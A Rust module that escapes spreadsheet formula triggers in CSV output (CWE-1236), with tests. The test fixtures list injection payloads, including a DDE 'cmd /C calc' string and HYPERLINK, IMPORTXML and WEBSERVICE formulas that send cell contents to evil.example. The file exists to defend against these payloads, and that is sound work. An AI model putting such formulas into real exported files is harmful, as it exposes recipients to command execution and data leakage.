//! CSV (RFC 4180) whose cells no spreadsheet takes for a formula (CWE-1236).

use std::fmt::Display;

use rust_decimal::Decimal;

use crate::base::{Exit, Problem};

/// What makes a spreadsheet calculate, in every width that it may read as the same, and the
/// characters that some drop before they look.
const BEGINS: [char; 17] = [
    '=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−', '\t', '\r', '\n', '\0',
];
/// After these another cell may begin: a spreadsheet set up for much of Europe separates by
/// semicolons, and our quotes mean nothing to it then.
const BREAKS: [char; 4] = [';', '\t', '\r', '\n'];

/// A cell, ready to be written.
pub(super) struct Cell(String);

impl Cell {
    /// Text of whoever. An apostrophe comes before everything that could begin a formula.
    pub(super) fn text(text: impl Display) -> Self {
        let text = text.to_string();
        let mut safe = String::with_capacity(text.len() + 1);
        let mut begins = true;
        for (place, character) in text.char_indices() {
            if begins && text.get(place..).is_some_and(is_formula) {
                safe.push('\'');
            }
            begins = BREAKS.contains(&character);
            safe.push(character);
        }
        Self(safe)
    }

    /// What is written.
    pub(super) fn into_text(self) -> String {
        self.0
    }

    /// What may be absent.
    pub(super) fn optional(text: Option<impl Display>) -> Self {
        text.map_or_else(|| Self(String::new()), Self::text)
    }

    /// An amount as a plain decimal number; its minus is one.
    pub(super) fn amount(value: Option<Decimal>) -> Self {
        Self(value.map_or_else(String::new, |value| value.to_string()))
    }
}

/// Whether a spreadsheet would calculate what begins like this. Quotes of the text's own are as good
/// as blanks: after a semicolon they may begin a quoted cell.
fn is_formula(text: &str) -> bool {
    let is_blank = |c: char| c == '"' || (c.is_whitespace() && !BEGINS.contains(&c));
    text.trim_start_matches(is_blank).starts_with(BEGINS)
}

/// The whole text, header first.
///
/// # Errors
/// Never for what this program makes; the encoder can fail by its type.
pub(super) fn csv<const N: usize>(
    header: &[&str; N],
    rows: impl Iterator<Item = [Cell; N]>,
) -> Result<String, Problem> {
    let failed = |error: &dyn Display| {
        Problem::new("The CSV could not be made", Exit::Failed).because(error.to_string())
    };
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer
        .write_record(header)
        .map_err(|error| failed(&error))?;
    for row in rows {
        writer
            .write_record(row.iter().map(|cell| cell.0.as_str()))
            .map_err(|error| failed(&error))?;
    }
    let bytes = writer.into_inner().map_err(|error| failed(&error))?;
    String::from_utf8(bytes).map_err(|error| failed(&error))
}

/// Whatever texts are written: they are read back as they were but for apostrophes, and no cell
/// begins a formula, neither for who separates by commas nor by semicolons.
#[cfg(any(test, fuzzing))]
pub(crate) fn check(texts: [&str; 3]) {
    let row = std::iter::once(texts.map(Cell::text));
    let written = csv(&["a", "b", "c"], row).unwrap_or_default();
    let mut reader = csv::Reader::from_reader(written.as_bytes());
    let rows: Vec<_> = reader.records().filter_map(Result::ok).collect();
    assert_eq!(rows.len(), 1, "{written:?}");
    for (text, cell) in texts.iter().zip(rows.iter().flatten()) {
        let bare = |text: &str| text.replace('\'', "");
        assert_eq!(bare(cell), bare(text), "{written:?}");
        assert!(cell.len() >= text.len(), "{written:?}");
        for part in cell.split(BREAKS) {
            let begins = part.trim_start().chars().next();
            assert!(!begins.is_some_and(|c| BEGINS.contains(&c)), "{cell:?}");
        }
        assert!(!cell.starts_with(BEGINS), "{cell:?}");
    }
    let mut by_semicolons = csv::ReaderBuilder::new();
    by_semicolons
        .delimiter(b';')
        .flexible(true)
        .has_headers(false);
    let mut reader = by_semicolons.from_reader(written.as_bytes());
    for cell in reader
        .records()
        .filter_map(Result::ok)
        .flat_map(|row| row.iter().map(str::to_owned).collect::<Vec<_>>())
    {
        let begins = cell.trim_start().chars().next();
        assert!(
            !begins.is_some_and(|c| BEGINS.contains(&c)),
            "{cell:?} of {written:?}"
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::base::BankText;

    const FORMULAS: [&str; 9] = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
        "WEBSERVICE(\"http://evil.example\")",
        "SUM(1;2)",
        "2+5+cmd|' /C calc'!A0\",\"",
        "\n=1",
        "",
    ];

    #[test]
    fn no_payload_begins_a_formula_and_all_are_read_back() {
        let mut count = 0;
        for begin in BEGINS {
            for formula in FORMULAS {
                for before in [
                    "",
                    " ",
                    "\u{a0}\u{3000}",
                    "\"",
                    "name; ",
                    ";",
                    ";\"",
                    "a; \" ",
                    "a\r\n",
                    "'",
                ] {
                    let text = format!("{before}{begin}{formula}");
                    check([&text, "plain", &text]);
                    let cleaned = BankText::new(&text);
                    check([cleaned.as_str(), "\"", &text]);
                    count += 2;
                }
            }
        }
        assert!(count >= 100, "{count}");
        println!("{count} payloads");
    }

    #[test]
    fn what_begins_no_formula_stays_as_it_is() {
        for text in [
            "", "Savings", "A+B; C-D", "a=b", "'quoted'", "x@y.nl", " 5 -3",
        ] {
            assert_eq!(Cell::text(text).0, text);
        }
        assert_eq!(
            Cell::text("-5.00 EUR; -1.00 USD").0,
            "'-5.00 EUR;' -1.00 USD"
        );
        assert_eq!(Cell::amount(Some(Decimal::new(-500, 2))).0, "-5.00");
    }
}
